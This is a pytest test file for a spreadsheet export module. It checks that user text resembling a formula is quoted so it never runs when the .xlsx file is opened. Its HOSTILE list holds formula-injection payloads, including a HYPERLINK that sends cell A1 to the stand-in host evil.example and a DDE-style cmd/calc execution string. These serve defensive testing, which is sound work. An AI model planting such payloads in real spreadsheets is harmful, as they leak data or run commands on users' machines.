"""Exports: streamed .xlsx, and nothing a person typed ever runs as a formula."""

import datetime as dt
import io
import zoneinfo

import openpyxl
import pytest

from epigrid.spreadsheets.export import neutralise, write_xlsx
from epigrid.spreadsheets.reading import open_sheet

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_quote(text):
    assert neutralise(text) == "'" + text


def test_other_values_pass_unchanged():
    assert neutralise("张三") == "张三"
    assert neutralise("<script>alert(1)</script>") == "<script>alert(1)</script>"
    assert neutralise(5) == 5
    assert neutralise(-5) == -5  # a number is not a formula
    assert neutralise(None) is None
    assert neutralise(dt.date(2020, 2, 3)) == dt.date(2020, 2, 3)
    assert neutralise("a\x00b\x1fc") == "abc"
    assert len(neutralise("x" * 40000)) == 32767


def test_written_cells_are_text_not_formulas(tmp_path):
    path = tmp_path / "out.xlsx"
    aware = dt.datetime(2020, 2, 3, 2, 30, tzinfo=dt.UTC)
    rows = [[text, 1, dt.date(2020, 2, 3), aware] for text in HOSTILE]
    assert write_xlsx(path, ["姓名", "=人数", "日期", "时间"], rows) == len(HOSTILE)
    sheet = openpyxl.load_workbook(path).active
    assert sheet["B1"].value == "'=人数"
    for number, text in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row=number, column=1)
        assert cell.value.startswith("'")
        assert cell.value[1:].strip() == text.strip()  # XML may turn the CR into LF
        assert cell.data_type == "s"
        assert sheet.cell(row=number, column=2).value == 1
    # Aware datetimes are written as the local wall-clock time (Asia/Shanghai here).
    local = aware.astimezone(zoneinfo.ZoneInfo("Asia/Shanghai")).replace(tzinfo=None)
    assert sheet["D2"].value == local


def test_streams_from_a_generator_to_a_stream():
    buffer = io.BytesIO()
    count = write_xlsx(buffer, ["n"], ([n] for n in range(5000)))
    assert count == 5000
    sheet = open_sheet(buffer.getvalue())
    assert sheet.last_row == 5001
    assert list(sheet.rows())[-1] == (5001, [4999.0])
